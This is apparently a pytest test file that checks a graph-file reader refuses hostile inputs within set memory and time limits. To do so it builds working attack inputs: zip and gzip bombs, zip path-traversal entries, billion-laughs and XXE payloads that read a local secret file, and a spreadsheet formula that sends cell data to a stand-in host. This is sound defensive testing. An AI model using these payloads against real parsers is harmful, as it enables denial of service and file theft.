"""Graph files that were made to harm: each is refused in one line, in little memory and time."""

from __future__ import annotations

import gzip
import io
import os
import shlex
import subprocess
import zipfile

import pytest
from broken_files import TEXTS, spreadsheet
from refusals import refused

FEW = 2**30
"""Bytes of memory that all of them may take, one after the other, with Python and all readers."""
SECONDS = 10
"""Processor time that each may take."""
BOMB = bytes(80 * 2**20)
"""More than is read of a file."""
SECRET = "top,secret,line\n"


def packed(entries, method=zipfile.ZIP_DEFLATED):
    """Return a zip with entries by name."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method, compresslevel=1) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return made.getvalue()


def lying(content, claimed):
    """Return a zip whose directory says that its one entry unpacks to ``claimed`` bytes."""
    data = bytearray(packed({"stops.txt": content}))
    directory = data.rindex(b"PK\x01\x02")
    data[directory + 24 : directory + 28] = claimed.to_bytes(4, "little")
    return bytes(data)


def laughs(root, inside="{}"):
    """Return XML with the billion laughs: ten entities of ten entities, and so on."""
    declared = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    text = inside.format("&e11;")
    return f'<!DOCTYPE {root} [<!ENTITY e0 "ha">{declared}]><{root}>{text}</{root}>'.encode()


def outside(root, secret, inside="{}"):
    """Return XML whose text is in another file."""
    entity = f'<!ENTITY secret SYSTEM "file://{secret}">'
    return f"<!DOCTYPE {root} [{entity}]><{root}>{inside.format('&secret;')}</{root}>".encode()


def workbook(**parts):
    """Return a spreadsheet with some of its parts replaced: sheet1 or sharedStrings."""
    whole = zipfile.ZipFile(io.BytesIO(spreadsheet([["source", "relation", "target"], ["a", "r", "b"]])))
    entries = {name: whole.read(name) for name in whole.namelist()}
    names = {"sheet1": "xl/worksheets/sheet1.xml", "sharedStrings": "xl/sharedStrings.xml"}
    return packed(entries | {names[part]: content for part, content in parts.items()})


def harmful(folder, secret):
    """Return what each file holds, by name."""
    feed = {"stops.txt": "stop_id,stop_name\n", "stop_times.txt": "trip_id,stop_id\n"}
    person = '<people><person handle="_p" id="I1"><name><first>{}</first></name></person></people>'
    return {
        # packed
        "bomb.csv.gz": gzip.compress(BOMB, 1),
        "twice.csv.gz": gzip.compress(gzip.compress(BOMB, 1), 1),
        "bomb.gramps": gzip.compress(TEXTS["gramps"].encode() + BOMB, 1),
        "bomb.zip": packed({"stops.txt": BOMB * 4, "stop_times.txt": BOMB}),
        "lying.zip": lying(BOMB, 100),
        "bomb.xlsx": workbook(sheet1=BOMB * 4),
        "strings.xlsx": workbook(sharedStrings=BOMB * 4),
        "many.zip": packed({f"{number}.csv": "" for number in range(10_500)}),
        "absolute.zip": packed({f"{folder}/secret.csv": "a,b,c\n", **feed}),
        "upwards.zip": packed({"../../secret.csv": "a,b,c\n", **feed}),
        "drive.zip": packed({"C:\\secret.csv": "a,b,c\n", **feed}),
        "within.zip": packed({"inner.zip": packed({"stops.txt": BOMB})}),
        # entities
        "laughs.graphml": laughs("graphml"),
        "laughs.gexf": laughs("gexf"),
        "laughs.gramps": laughs("database", person),
        "laughs.xlsx": workbook(
            sheet1=laughs("worksheet", "<sheetData><row><c><v>{}</v></c></row></sheetData>")
        ),
        "outside.graphml": outside("graphml", secret),
        "outside.gramps": outside("database", secret, person),
        "outside.xlsx": workbook(sheet1=outside("worksheet", secret)),
        "included.gexf": f'<!DOCTYPE gexf SYSTEM "file://{secret}"><gexf><graph/></gexf>'.encode(),
        # deep
        "deep.graphml": b"<graphml>" + b"<x>" * 500_000,
        "deep.json": b"[" * 5_000_000,
        "deep.json.gz": gzip.compress(b'{"a":' * 5_000_000),
        "deep.ttl": b"@prefix : <http://x/> .\n:a :b " + b"[ :c " * 200_000,
        "deep.gml": b"graph [ " * 500_000,
        "deep.dot": b"digraph { " + b"subgraph { " * 500_000,
        # wide and long
        "columns.csv": b",".join(b"c%d" % number for number in range(1_000_000)) + b"\n" + b"1," * 1_000_000,
        "long.csv": b"a," * 15_000_000,
        "name.csv": b"a,b," + b"c" * 30_000_000,
        "letters.csv": b"x" * 2_000_000 + b"\xe9\n",
        "nulls.csv": b"a\0,r\0,b\0\n" * 1_000,
        "zeros.csv": bytes(2**20),
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Return a folder, and in it what may not be read and a folder of files that must be refused."""
    folder = tmp_path_factory.mktemp("hostile")
    secret = folder / "secret.csv"
    secret.write_text(SECRET)
    inside = folder / "files"
    inside.mkdir()
    for name, content in harmful(folder, secret).items():
        (inside / name).write_bytes(content)
    for name in ("loop.csv", "again.csv"):
        (inside / name).symlink_to(inside / ("again.csv" if name == "loop.csv" else "loop.csv"))
    (inside / "zeros").symlink_to("/dev/zero")
    (inside / "random").symlink_to("/dev/urandom")
    (inside / "empty").mkdir()
    linked = inside / "linked"
    linked.mkdir()
    (linked / "stops.txt").symlink_to("/dev/zero")
    os.mkfifo(linked / "stop_times.txt")
    return folder


def test_every_hostile_file_is_refused_in_one_line_in_little_memory_and_time(hostile):
    paths = sorted((hostile / "files").iterdir())
    before = {path: path.lstat().st_mtime_ns for path in hostile.rglob("*")}
    told = refused("graph", paths)
    assert [one["file"] for one in told] == [path.name for path in paths]
    for one in told:
        assert one["error"], f"{one['file']} is read"
        assert one["error"].isprintable(), one
        assert len(one["error"]) < 500, one
        assert one["file"].partition(".")[0] in one["error"], one
        assert "secret,line" not in one["error"], "nothing outside is shown"
        assert one["peak"] < FEW, one
        assert one["seconds"] < SECONDS, one
    assert {path: path.lstat().st_mtime_ns for path in hostile.rglob("*")} == before, "nothing is written"


def test_a_pipe_without_end_is_read_no_further_than_a_file(tmp_path):
    """A pipe is waited for, as by any program, and then read like a file."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with subprocess.Popen(
        ["sh", "-c", f"exec cat /dev/zero > {shlex.quote(str(pipe))}"], stderr=-3
    ) as endless:
        (told,) = refused("graph", [pipe])
        endless.kill()
    assert told["error"].endswith("pipe: larger than 64 MiB; give a smaller graph")
    assert told["peak"] < FEW


def test_formulas_in_a_spreadsheet_are_not_run(tmp_path):
    formula = '=WEBSERVICE("http://x/"&A1)'
    (tmp_path / "book.xlsx").write_bytes(
        spreadsheet([["source", "relation", "target"], ["a", "r", formula], ["b", "r", "c"]])
    )
    (told,) = refused("graph", [tmp_path / "book.xlsx"])
    assert told["error"] is not None or set(told["names"]) <= {"a", "b", "c", "r", formula}
